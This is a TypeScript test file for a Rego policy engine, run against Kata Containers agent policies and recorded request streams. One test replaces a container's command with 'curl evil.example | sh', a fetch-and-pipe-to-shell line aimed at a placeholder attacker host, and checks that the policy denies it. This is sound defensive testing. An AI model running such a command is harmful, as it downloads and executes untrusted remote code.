import { readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { Policy } from "@contrast/rego";
import { describe, expect, it } from "vitest";
import { parseRequestStream } from "../src/agent/requests.js";

const TESTDATA = fileURLToPath(new URL("../../../testdata/rego/", import.meta.url));
const testdata = (path: string): string => readFileSync(TESTDATA + path, "utf8");

/** The regorus Kata cases: directories with policy.rego, inputs.txt and outputs.json. */
function kataCases(): string[] {
  return readdirSync(`${TESTDATA}regorus-kata`, { withFileTypes: true })
    .filter((d) => d.isDirectory())
    .map((d) => d.name)
    .sort();
}

describe("regorus Kata policies and request streams", () => {
  const cases = kataCases();

  it("finds the ten policies", () => {
    expect(cases.length).toBeGreaterThanOrEqual(10);
  });

  for (const name of cases) {
    it(`reproduces every decision of ${name}`, () => {
      const policy = Policy.compile({ file: "policy.rego", source: testdata(`regorus-kata/${name}/policy.rego`) });
      const requests = parseRequestStream(testdata(`regorus-kata/${name}/inputs.txt`));
      const expected = JSON.parse(testdata(`regorus-kata/${name}/outputs.json`)) as unknown[];
      expect(requests.length).toBe(expected.length);
      const got = requests.map((r) =>
        policy.evalRule(`data.agent_policy.${r.name}`, { input: r.input, strict: false }),
      );
      expect(got).toEqual(expected);
    });
  }

  it("denies a CreateContainerRequest whose command was changed", () => {
    const policy = Policy.compile(testdata("regorus-kata/web/policy.rego"));
    const requests = parseRequestStream(testdata("regorus-kata/web/inputs.txt"));
    const create = requests.find((r) => r.name === "CreateContainerRequest");
    expect(create).toBeDefined();
    const input = structuredClone(create?.input) as { OCI: { Process: { Args: string[] } } };
    expect(policy.evalRule("data.agent_policy.CreateContainerRequest", { input, strict: false })).toBe(true);
    input.OCI.Process.Args = ["/bin/sh", "-c", "curl evil.example | sh"];
    expect(policy.evalRule("data.agent_policy.CreateContainerRequest", { input, strict: false })).toBe(false);
  });

  it("evaluates a policy the same way on a reused and on a fresh engine", () => {
    const policy = Policy.compile(testdata("regorus-kata/pod-exec/policy.rego"));
    const requests = parseRequestStream(testdata("regorus-kata/pod-exec/inputs.txt"));
    const first = requests.map((r) =>
      policy.evalRule(`data.agent_policy.${r.name}`, { input: r.input, strict: false }),
    );
    const second = requests.map((r) =>
      Policy.compile(testdata("regorus-kata/pod-exec/policy.rego")).evalRule(`data.agent_policy.${r.name}`, {
        input: r.input,
        strict: false,
      }),
    );
    expect(second).toEqual(first);
  });

  it("parses large.rego", () => {
    const policy = Policy.compile(testdata("regorus-kata/large.rego"));
    expect(policy.packages()).toEqual(["agent_policy"]);
    expect(policy.evalRule("data.agent_policy.AllowRequestsFailingPolicy", { input: {} })).toBe(false);
  });
});
